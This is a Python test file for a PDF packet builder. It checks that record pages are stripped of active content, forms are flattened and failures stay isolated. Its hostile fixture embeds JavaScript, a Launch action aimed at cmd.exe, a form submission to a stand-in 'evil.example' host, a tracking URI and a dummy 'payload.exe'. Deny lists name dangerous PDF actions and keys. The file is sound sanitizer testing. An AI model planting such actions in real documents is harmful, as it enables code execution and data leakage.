"""Record pages made safe to open: no actions but jumps within the packet, no attachments or media,
forms flattened, one bad record never aborting the packet, no warning noise on stderr."""

from __future__ import annotations

import io
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from organizer.core.packet import PacketOptions, build_packet
from organizer.core.packet import assemble as assemble_module
from organizer.core.packet.sources import OpenedRecord
from tests.core.test_packet_pages import filled_form, saved
from tests.core.test_packet_support import (
    content,
    page_mark,
    pdfium_texts,
    record,
    record_pdf,
    syntax_problems,
)

FRONT = 6  # cover, summary, questions, contents, medications, plan summary
PAYLOAD = b"MZ-PAYLOAD-EXE-BYTES"
ACTIONS = ("/JavaScript", "/Launch", "/URI", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE",
           "/Rendition", "/Sound", "/Movie", "/ResetForm", "/Hide", "/Named", "/SetOCGState",
           "/Trans", "/GoTo3DView", "/RichMediaExecute", "/Thread")
BAD_SUBTYPES = {"/FileAttachment", "/RichMedia", "/Screen", "/Sound", "/Movie", "/3D", "/Widget"}
BAD_KEYS = {"/JS", "/AA", "/OpenAction", "/URI", "/Launch", "/EmbeddedFiles", "/EF", "/JavaScript",
            "/RichMediaContent", "/XFA", "/AcroForm"}


def _action(kind: str, pdf: pikepdf.Pdf) -> Dictionary:
    extra: dict[str, object] = {
        "/JavaScript": {"/JS": String("app.alert('hi')")},
        "/Launch": {"/F": String("C:\\Windows\\System32\\cmd.exe")},
        "/URI": {"/URI": String("https://tracker.example/pixel?id=42")},
        "/SubmitForm": {"/F": Dictionary(FS=Name.URL, F=String("https://evil.example/post"))},
        "/ImportData": {"/F": String("data.fdf")},
        "/GoToR": {"/F": String("other.pdf"), "/D": Array([0, Name.Fit])},
        "/GoToE": {"/D": Array([0, Name.Fit])},
    }.get(kind, {})
    return pdf.make_indirect(Dictionary({"/Type": Name.Action, "/S": Name(kind), **extra}))


def _annot(pdf: pikepdf.Pdf, subtype: str, **keys: object) -> Dictionary:
    return pdf.make_indirect(Dictionary({"/Type": Name.Annot, "/Subtype": Name(subtype),
                                         "/Rect": Array([50, 50, 90, 90]),
                                         **{f"/{key}": value for key, value in keys.items()}}))


def hostile_record() -> bytes:
    """Two pages carrying every kind of active content a record could bring along."""
    pdf = pikepdf.open(io.BytesIO(record_pdf("evil", 2)))
    first, second = (page.obj for page in pdf.pages)
    embedded = pdf.make_indirect(pikepdf.Stream(pdf, PAYLOAD, Type=Name.EmbeddedFile))
    filespec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("payload.exe"),
                                            EF=Dictionary(F=embedded)))
    annots = [_annot(pdf, "/Link", A=_action(kind, pdf)) for kind in ACTIONS]
    annots.append(_annot(pdf, "/Link", Dest=Array([second, Name.Fit])))  # a jump inside: kept
    annots.append(_annot(pdf, "/Link", A=Dictionary(S=Name.GoTo, D=Array([second, Name.XYZ, 0, 700, 0]),
                                                     Next=_action("/JavaScript", pdf))))
    pdf.Root.Dests = Dictionary(There=Array([second, Name.FitH, 600]))
    annots.append(_annot(pdf, "/Link", Dest=Name("/There")))  # a named jump inside: kept, made explicit
    annots.append(_annot(pdf, "/FileAttachment", FS=filespec, Contents=String("payload")))
    annots.append(_annot(pdf, "/RichMedia", RichMediaContent=Dictionary(Assets=Dictionary())))
    for subtype in ("/Screen", "/Sound", "/Movie", "/3D"):
        annots.append(_annot(pdf, subtype, A=_action("/Rendition", pdf)))
    annots.append(_annot(pdf, "/Text", Contents=String("a note"),
                         AA=Dictionary(E=_action("/JavaScript", pdf))))
    annots.append(_annot(pdf, "/Widget", FT=Name.Btn, T=String("button"),
                         A=_action("/JavaScript", pdf), AA=Dictionary(U=_action("/Launch", pdf))))
    first.Annots = pdf.make_indirect(Array(annots))
    first.AA = Dictionary(O=_action("/JavaScript", pdf), C=_action("/Launch", pdf))
    second.AA = Dictionary(O=_action("/URI", pdf))
    first.StructParents = 0
    pdf.Root.OpenAction = _action("/JavaScript", pdf)
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), _action("/JavaScript", pdf)])),
        EmbeddedFiles=Dictionary(Names=Array([String("payload.exe"), filespec])))
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_indirect(pikepdf.Stream(pdf, b"<xdp/>")))
    with pytest.warns(pikepdf.PageCopyWarning):  # the button is a widget outside /AcroForm
        return saved(pdf)


def _walk(value: object, found: list[str]) -> None:
    if isinstance(value, pikepdf.Array):
        for item in value:
            if isinstance(item, pikepdf.Object) and not item.is_indirect:
                _walk(item, found)
    elif isinstance(value, pikepdf.Dictionary | pikepdf.Stream):
        for key in list(value.keys()):
            item = value.get(key)
            if key in BAD_KEYS and not (key == "/OpenAction" and isinstance(item, pikepdf.Array)):
                found.append(f"key {key}")  # the packet's own OpenAction is a page to show: allowed
            if key in ("/S", "/Subtype", "/Type") and str(item) in {*ACTIONS, *BAD_SUBTYPES,
                                                                    "/EmbeddedFile", "/Filespec"}:
                found.append(f"{key} {item}")
            if isinstance(item, pikepdf.Object) and not item.is_indirect:
                _walk(item, found)
        if isinstance(value, pikepdf.Stream) and PAYLOAD in value.read_bytes():
            found.append("payload bytes")


def active_content(path: Path) -> list[str]:
    """Every forbidden key, action, annotation type or payload in EVERY object of the file."""
    found: list[str] = []
    with pikepdf.open(path) as pdf:
        for obj in pdf.objects:
            _walk(obj, found)
    return found


def test_a_hostile_record_brings_no_actions_attachments_or_media_into_the_packet(tmp_path: Path) -> None:
    out = tmp_path / "packet.pdf"
    result = build_packet(content(record("evil", data=hostile_record())), out, PacketOptions())
    assert result.left_out == ()
    assert active_content(out) == []
    assert syntax_problems(out) == []
    texts = pdfium_texts(out)
    assert page_mark("evil", 1) in texts[FRONT] and page_mark("evil", 2) in texts[FRONT + 1]


def test_jumps_inside_the_record_are_kept_pointing_at_its_pages_in_the_packet(tmp_path: Path) -> None:
    out = tmp_path / "packet.pdf"
    build_packet(content(record("evil", data=hostile_record())), out, PacketOptions())
    with pikepdf.open(out) as pdf:
        pages = [page.obj for page in pdf.pages]
        links = [a for a in pages[FRONT].get("/Annots", []) if a.get("/Subtype") == "/Link"]
        assert len(links) == 3
        for link in links:
            assert set(link.keys()) <= {"/Type", "/Subtype", "/Rect", "/Border", "/Dest"}
            assert link.Dest[0].objgen == pages[FRONT + 1].objgen
        assert "/Annots" not in pages[FRONT + 1]


def test_the_hostile_walk_finds_what_it_looks_for(tmp_path: Path) -> None:
    path = tmp_path / "hostile.pdf"
    path.write_bytes(hostile_record())
    found = active_content(path)
    for expected in ("key /JS", "key /AA", "key /OpenAction", "/Subtype /FileAttachment",
                     "/S /Launch", "/S /GoToR", "/Subtype /3D", "payload bytes", "key /XFA"):
        assert expected in found


def orphan_widget_form() -> bytes:
    """A filled form whose /AcroForm is gone: its widgets are orphans, drawn differently by each reader."""
    pdf = pikepdf.open(io.BytesIO(filled_form()))
    del pdf.Root["/AcroForm"]
    with pytest.warns(pikepdf.PageCopyWarning):  # pikepdf itself says such forms are trouble
        return saved(pdf)


def unrendered_form() -> bytes:
    """A filled form with no appearance for its value: readers must draw it (NeedAppearances)."""
    pdf = pikepdf.open(io.BytesIO(filled_form()))
    for annot in pdf.pages[0].obj.Annots:
        if "/AP" in annot:
            del annot["/AP"]
    pdf.Root.AcroForm.NeedAppearances = True
    return saved(pdf)


@pytest.mark.parametrize("maker", [orphan_widget_form, unrendered_form, filled_form])
def test_every_form_field_is_flattened_and_its_value_stays_visible(tmp_path: Path, maker: object) -> None:
    out = tmp_path / "packet.pdf"
    build_packet(content(record("form", pages=1, data=maker())), out, PacketOptions())  # type: ignore[operator]
    assert "FILLED-VALUE-42" in pdfium_texts(out)[FRONT]
    assert active_content(out) == []


def broken_outline() -> bytes:
    """A record whose bookmark has a destination of the wrong kind: pikepdf raises OutlineStructureError."""
    pdf = pikepdf.open(io.BytesIO(record_pdf("knot", 2)))
    item = pdf.make_indirect(Dictionary(Title=String("Results"), Dest=7))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines
    return saved(pdf)


def test_a_broken_outline_drops_only_the_records_bookmarks_with_a_note(tmp_path: Path) -> None:
    out = tmp_path / "packet.pdf"
    result = build_packet(content(record("knot", data=broken_outline()), record("fine")), out,
                          PacketOptions())
    assert result.left_out == ()
    assert [line.document_id for line in result.contents] == ["fine", "knot"] or \
        {line.document_id for line in result.contents} == {"fine", "knot"}
    assert any("Report knot" in note and "bookmarks" in note for note in result.warnings)
    assert page_mark("knot", 2) in "".join(pdfium_texts(out))


def test_a_record_whose_pages_cannot_be_copied_is_left_out_and_the_packet_says_so(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = assemble_module.copy_pages

    def failing(target: pikepdf.Pdf, source: OpenedRecord, start: int, stop: int) -> None:
        if source.record.document_id == "bad":
            raise RuntimeError("qpdf could not copy")
        real(target, source, start, stop)

    monkeypatch.setattr(assemble_module, "copy_pages", failing)
    out = tmp_path / "packet.pdf"
    result = build_packet(content(record("good"), record("bad")), out, PacketOptions())
    assert [item.document_id for item in result.left_out] == ["bad"]
    assert "could not be copied" in result.left_out[0].reason
    assert [line.document_id for line in result.contents] == ["good"]
    texts = pdfium_texts(out)
    assert "Report bad" in texts[0]  # the cover says it is not included
    assert page_mark("good", 2) in texts[FRONT + 1] and len(texts) == FRONT + 2


def test_no_warnings_reach_stderr(tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    data = record_pdf("plain", 2)
    damaged = data[: data.rindex(b"xref")]
    build_packet(content(record("plain", data=data, password="not-needed"), record("torn", data=damaged),
                         record("form", pages=1, data=orphan_widget_form())),
                 tmp_path / "packet.pdf", PacketOptions())
    captured = capfd.readouterr()
    assert captured.err == ""
    assert captured.out == ""


def test_no_python_warnings_are_raised_either(tmp_path: Path) -> None:
    import warnings
    orphans = orphan_widget_form()
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        build_packet(content(record("plain", password="not-needed"), record("form", pages=1, data=orphans)),
                     tmp_path / "packet.pdf", PacketOptions())


def one_page_many_times(times: int) -> bytes:
    """A small record whose page tree lists the same page object `times` times."""
    pdf = pikepdf.open(io.BytesIO(record_pdf("again", 1)))
    page = pdf.pages[0].obj
    pdf.Root.Pages.Kids = Array([page] * times)
    pdf.Root.Pages.Count = times
    return saved(pdf)


def test_a_page_listed_thousands_of_times_becomes_as_many_pages_each_its_own(tmp_path: Path) -> None:
    times = 3000
    out = tmp_path / "packet.pdf"
    result = build_packet(content(record("again", pages=times, data=one_page_many_times(times))), out,
                          PacketOptions())
    assert result.pages == FRONT + times
    with pikepdf.open(out) as pdf:
        pages = [page.obj for page in pdf.pages]
        assert len({page.objgen for page in pages}) == len(pages)  # each output page its own object
        stamps = {page.Contents[-1].objgen for page in pages[FRONT:]}
        assert len(stamps) == times  # and its own stamp: "Page x of N"
        last = pages[-1].Contents[-1].read_bytes()
    assert syntax_problems(out) == []
    assert last.endswith(b" Tj ET EMC Q\n")


def test_copying_pages_never_slices_or_extends_the_page_list(monkeypatch: pytest.MonkeyPatch) -> None:
    """pikepdf copies its whole page list on each slice, extend or append: quadratic in the pages."""
    from organizer.core.packet.sources import open_record

    opened = open_record(record("a", pages=3))
    assert isinstance(opened, OpenedRecord)
    target = pikepdf.new()
    for name in ("extend", "append", "__getitem__"):
        monkeypatch.setattr(type(target.pages), name, lambda *a, **k: pytest.fail("page list copied"))
    assemble_module.copy_pages(target, opened, 0, 3)
    monkeypatch.undo()
    assert len(target.pages) == 3
    opened.close()


def test_links_that_cannot_be_kept_are_dropped_with_a_note_and_the_pages_still_go_in(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from organizer.core.packet import cleaning

    def broken(*args: object) -> None:
        raise pikepdf.PdfError("damaged link")

    monkeypatch.setattr(cleaning, "_keep_internal_links", broken)
    out = tmp_path / "packet.pdf"
    result = build_packet(content(record("evil", data=hostile_record())), out, PacketOptions())
    assert result.left_out == ()
    assert any("Report evil" in note and "links" in note for note in result.warnings)
    assert active_content(out) == []
    assert page_mark("evil", 2) in pdfium_texts(out)[FRONT + 1]


def test_a_form_that_cannot_be_drawn_is_dropped_with_a_note_and_the_page_still_goes_in(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from organizer.core.packet import cleaning

    def broken(*args: object) -> None:
        raise pikepdf.PdfError("hostile form")

    monkeypatch.setattr(cleaning, "_complete_form", broken)
    out = tmp_path / "packet.pdf"
    result = build_packet(content(record("form", pages=1, data=orphan_widget_form())), out, PacketOptions())
    assert result.left_out == ()
    assert any("form fields" in note for note in result.warnings)
    assert active_content(out) == []
    assert "Consent form" in pdfium_texts(out)[FRONT]


def test_a_record_page_that_cannot_be_stamped_leaves_only_its_record_out(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from organizer.core.packet.stamp import Stamper

    real = Stamper.stamp_record_page

    def picky(self: Stamper, page: pikepdf.Dictionary, tail: str) -> None:
        if float(page.MediaBox[2]) == 500:
            raise pikepdf.PdfError("unreadable page")
        real(self, page, tail)

    monkeypatch.setattr(Stamper, "stamp_record_page", picky)
    odd = pikepdf.open(io.BytesIO(record_pdf("odd", 2)))
    for page in odd.pages:
        page.obj.MediaBox = Array([0, 0, 500, 700])
    out = tmp_path / "packet.pdf"
    result = build_packet(content(record("good"), record("odd", data=saved(odd))), out, PacketOptions())
    assert [item.document_id for item in result.left_out] == ["odd"]
    assert [line.document_id for line in result.contents] == ["good"]
    assert len(pdfium_texts(out)) == FRONT + 2
